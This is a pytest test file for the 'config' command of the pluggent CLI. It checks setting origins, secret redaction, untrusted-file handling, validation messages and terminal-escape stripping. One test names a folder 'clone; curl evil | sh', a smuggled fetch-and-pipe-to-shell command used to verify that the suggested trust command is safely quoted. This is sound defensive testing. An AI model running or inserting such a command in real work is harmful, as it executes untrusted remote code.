"""``pluggent config``: what is set, where, whether it is right; and no secret in any of it."""

import pytest
from cli_support import Cli
from each_of import each_of
from fake_distributions import POLICY
from pluggent_cli.commands import config
from pluggent_cli.completion import words as completing

SETTINGS_PLUGIN = """
import attrs
from pluggent_hookspecs import Secret, hookimpl

@attrs.frozen
class Settings:
    key: Secret
    retries: int = 3

open("imported-{name}.txt", "w").close()

class Plugin:
    Settings = Settings
    def __init__(self, settings):
        raise RuntimeError("made, and it should not be")
    @hookimpl
    def provide_tools(self, event):
        return []
"""
MINE = ("--config", "mine.toml")


@pytest.fixture
def cli(cli):
    for name in ("acme-tool", "acme-other"):
        cli.plugin(name, SETTINGS_PLUGIN.replace("{name}", name))
    return cli


def write(cli: Cli, text: str) -> None:
    """Write settings to be named by --config."""
    (cli.work / "mine.toml").write_text(text)


# ---- show -------------------------------------------------------------------------------


def test_every_setting_says_its_value_and_where_it_comes_from(cli):
    write(cli, 'model = "a/b"\n[limits]\nasks = 1\n[plugins.acme-tool]\nkey = "env:ACME"\n')

    code, out, err = cli(
        "config", *MINE, "--without", "acme-other", PLUGGENT_LIMITS_ASKS="3", PLUGGENT_BLOCK=None
    )  # fmt: skip

    lines = out.splitlines()
    assert (code, err) == (0, "")
    assert lines[0] == 'model = "a/b"  # mine.toml, line 1'
    assert {
        "limits.asks = 3  # PLUGGENT_LIMITS_ASKS", "limits.denials = 10  # default",
        'selection.block = ["acme-other"]  # the command line',
    } < {*lines}  # fmt: skip
    assert lines[-1] == 'plugins.acme-tool.key = "env:ACME"  # mine.toml, line 5'


def test_a_literal_secret_is_never_printed(cli):
    write(
        cli,
        """
[plugins.acme-tool]
key = "s3cret"
headers = { Authorization = "Bearer s3cret" }
url = "https://user:s3cret@host/v1"
deep = [{ a = ["s3cret"] }]
""",
    )

    for words in ("show", "show --json", "check", "check --json", "path"):
        assert "s3cret" not in str(cli("config", *words.split(), *MINE, "--debug"))
    assert "headers = {Authorization = (text, not shown)}  # mine.toml, line 4" in cli("config", *MINE).out

    write(cli, '[plugins]\nacme-tool = "s3cret"\n')
    done = cli("config", "check", *MINE)
    assert ("plugins.acme-tool: expected a table, got text" in done.out, "s3cret" in str(done)) == (True, False)


def test_what_an_untrusted_file_cannot_set_is_named_with_how_to_trust_it(cli):
    file = cli.work / "pluggent.toml"
    file.write_text('model = "evil/x"\nstrict = true\n[plugins.acme-tool]\nkey = "env:X"\n')

    code, out, err = cli("config", "--color", "never")

    assert code == 0
    assert f"strict = true  # {file}, line 2\n" in out
    assert 'model = ""  # default: offline/demo answers\n' in out
    assert err == (
        f"note: {file} is not trusted, so it may only tighten; ignored: model, plugins.acme-tool.key."
        f" Read it, then accept it: pluggent trust {file}\n"
    )
    assert cli.document("config")["notes"] == [err.removeprefix("note: ").rstrip()]
    assert cli("plugins", "--color", "never").err == err
    assert cli("plugins", "--quiet").err == ""


def test_the_command_that_trusts_a_file_is_one_command_whatever_its_folder_is_called(cli):
    folder = cli.work / "clone; curl evil | sh"
    folder.mkdir()
    file = folder / "pluggent.toml"
    file.write_text('model = "evil/x"\n')

    note = cli("config", script=f'cd "{folder}"; "$@"').err
    path = cli("config", "path", "--color", "never", script=f'cd "{folder}"; "$@"').out

    assert note.endswith(f"accept it: pluggent trust '{file}'\n")
    assert f"read it, then pluggent trust '{file}'" in " ".join(path.split())


def test_the_document_names_the_kind_of_every_origin(cli):
    write(cli, '[selection]\nblock = ["acme-tool"]\n')

    found = {one["key"]: one for one in cli.document("config", *MINE, PLUGGENT_BLOCK="acme-other")["settings"]}

    assert found["strict"] == {"key": "strict", "value": False, "withheld": False, "origin": None}
    assert found["selection.block"]["origin"] == {
        "kind": "variable", "where": "PLUGGENT_BLOCK", "line": None,
        "also": [{"kind": "file", "where": "mine.toml", "line": 2}],
    }  # fmt: skip


def test_text_in_settings_cannot_steer_the_terminal(cli):
    write(cli, 'system = "\\u001b]0;x\\u0007"\n["effects"]\n"\\u001b[2J" = []\n')

    assert "\x1b" not in cli("config", *MINE).out


# ---- check ------------------------------------------------------------------------------


def test_all_problems_of_all_sources_and_plugins_are_reported_at_once(cli):
    write(
        cli,
        """
modl = 1
order = ["acme-tol"]
[limits]
asks = -1
[plugins.acme-tool]
key = "s3cret"
retris = 1
[plugins.acme-otter]
""",
    )

    code, out, err = cli("config", "check", *MINE, PLUGGENT_STRICT="maybe")

    assert (code, err) == (2, "")
    secret = "a secret is given as env:NAME, file:PATH or keyring:SERVICE/USER, never as itself"
    assert out.splitlines() == [
        "✗ mine.toml, line 2: modl: is not a known setting; did you mean 'model'?",
        "✗ mine.toml, line 5: limits.asks: expected a whole number of at least 0, got -1",
        "✗ PLUGGENT_STRICT: strict: expected true or false, got 'maybe'",
        "✗ plugins: there are settings for 'acme-otter', which is not installed; did you mean 'acme-other'?",
        "✗ mine.toml, line 3: order names 'acme-tol', which is not installed; did you mean 'acme-tool'?",
        f"✗ mine.toml, line 7: plugins.acme-tool.key: {secret}",
        "✗ mine.toml, line 8: plugins.acme-tool.retris: unknown; did you mean 'retries'?",
        "7 problems (with the settings of acme-tool)",
    ]


def test_no_plugin_is_imported_to_show_settings_or_their_files(cli):
    write(cli, '[plugins.acme-tool]\nkey = "env:X"\n')

    for words in ("config", "config path"):
        tops = {name.partition(".")[0] for name in cli.imported(*words.split(), *MINE)}
        assert not tops & {"attr", "attrs", "pluggy", "cattrs", "msgspec", "asyncio", "acme_tool"}
    assert [*cli.work.glob("imported-*")] == []


def test_a_plugin_that_a_run_would_leave_out_is_a_note(cli):
    write(cli, '[plugins.acme-tool]\nkey = "env:X"\n')

    code, out, err = cli("config", "check", *MINE, "--without", "acme-other")

    assert (code, err) == (0, "")
    assert out.startswith("· plugin 'acme-tool' (acme-tool 1.0) cannot be made by tool = acme_tool:Plugin")
    assert out.endswith("✓ the settings are right (with the settings of acme-tool)\n")


REFUSED = {
    'model = "nope/x"': "1: provider 'nope': no installed plugin offers it",
    'model = "nope"': "1: model: 'nope' is not a model: write provider/model",
    'sessions = "redis"': "1: session 'redis': no installed plugin offers it",
    "[limits.per_tool]\nnope = { calls = 1 }": "2: limits.per_tool: 'nope' is not a tool of this session",
    'stops_batch = ["nope"]': "1: stops_batch: 'nope' is not a tool of this session",
    "[required]\nacme-gone = []": "2: required: plugin 'acme-gone' is required and does not run",
    "[required]\nacme-tool = ['decide_tool_call']": "2: required: plugin 'acme-tool' is required and does not run",
    '[grants]\noptional = ["acme-gone"]': "2: [grants] optional names 'acme-gone', which is not installed",
    "[plugins.acme-gone]\nx = 1": "2: there are settings for 'acme-gone', which is not installed",
    '[aliases]\n"tool/x" = "acme-gone"': "2: aliases: no plugin 'acme-gone' is installed",
    '[effects]\nnope = ["shell"]': "2: [effects] names 'nope', which is not installed",
    '[selection]\nmode = "allow"\nallow = ["acme-gone"]': "3: allow: no plugin 'acme-gone' is installed",
}


@each_of(("text", "says"), REFUSED.items(), ids=REFUSED)
def test_check_finds_what_a_run_refuses_with_its_place_and_exit_code(cli, text, says):
    write(cli, text)

    checked = cli("config", "check", *MINE)
    ran = cli("run", *MINE, "hello")

    assert (checked.code, ran.code in (2, 5)) == (ran.code, True), (checked, ran)
    assert f"✗ mine.toml, line {says}" in checked.out, checked.out
    assert says.partition(": ")[2].rpartition(": ")[2].split(";")[0] in ran.err


def test_check_finds_a_policy_that_was_not_accepted(cli):
    cli.plugin("acme-hook", POLICY, "hooks")

    checked = cli("config", "check")

    assert (checked.code, cli("run", "hello").code) == (2, 2)
    assert "✗ plugins: plugin 'acme-hook' 1.0 has hooks that see everything and was not accepted yet" in checked.out


def test_check_finds_a_policy_whose_rule_names_no_tool(cli):
    write(cli, '[plugins.pluggent-guard]\nrules = [{ action = "deny", tool = "nope" }]\n')

    checked = cli("config", "check", *MINE)

    assert (checked.code, cli("run", *MINE, "hello").code) == (2, 2)
    assert "✗ mine.toml, line 2: " in checked.out
    assert "'nope' matches no tool" in checked.out


def test_check_asks_no_model_and_keeps_nothing(cli):
    write(cli, 'model = "openai/x"\n')

    done = cli("config", "check", *MINE, OPENAI_BASE_URL="http://127.0.0.1:9/v1", OPENAI_API_KEY=None)

    assert done.code == 0
    assert not (cli.state / "sessions").exists()


def test_a_plugin_that_cannot_be_imported_or_may_not_be_is_named(cli):
    cli.plugin("acme-gone", "import nowhere")
    cli.plugin("acme-hook", POLICY, "hooks")
    write(cli, "[plugins.acme-gone]\n[plugins.acme-hook]\n[plugins.acme-other]\n")

    code, out, _ = cli("config", "check", *MINE, "--without", "acme-other")

    assert (code, "No module named 'nowhere'" in out) == (5, True)
    assert "· acme-hook: not checked: its hooks were not accepted yet: pluggent trust --plugin acme-hook\n" in out
    assert "· acme-other: not checked: it is blocked: blocked by [selection] block\n" in out


def test_a_file_that_is_no_toml_does_not_hide_the_other_problems(cli):
    write(cli, "= broken")

    document = cli.document("config", "check", *MINE, PLUGGENT_FSYNC="x")

    assert [one["where"] for one in document["problems"]] == ["mine.toml, line 1, column 1", "PLUGGENT_FSYNC"]
    assert document["exit_code"] == 2


def test_signs_are_ascii_where_the_locale_has_no_others(cli):
    with cli.at_terminal("config", "check", LC_ALL="C", NO_COLOR="1") as terminal:
        done = terminal.end()

    assert "+ the settings are right" in done.out
    assert done.out.isascii()


# ---- path -------------------------------------------------------------------------------


def test_the_files_are_listed_in_order_with_what_becomes_of_them(cli):
    project = cli.work / "pluggent.toml"
    project.write_text("strict = true\n")
    before = cli.document("config", "path")["files"]
    cli("trust")
    after = cli.document("config", "path")["files"]

    assert [(one["role"], one["state"]) for one in before] == [
        ("system", "not there"), ("user", "not there"), ("project", "not trusted: it may only tighten"),
    ]  # fmt: skip
    assert before[2]["mend"] == f"read it, then pluggent trust {project}"
    assert (after[2]["path"], after[2]["state"]) == (str(project), "read")


def test_files_that_cannot_be_read_are_named_and_are_no_obstacle(cli):
    (cli.work / "pluggent.toml").mkdir()

    code, out, err = cli("config", "path")

    assert (code, err) == (0, "")
    assert "Is a directory" in out or "is not a regular file" in out


@each_of(("words", "says"), [("chek", "did you mean 'check'?"), ("show model", "takes no name, got 'model'")])
def test_wrong_usage_is_said(cli, words, says):
    code, _, err = cli("config", *words.split())

    assert (code, says in err) == (2, True)


def test_the_actions_that_are_completed_are_those_of_the_command():
    assert tuple(completing.ACTIONS["config"]) == config.ACTIONS
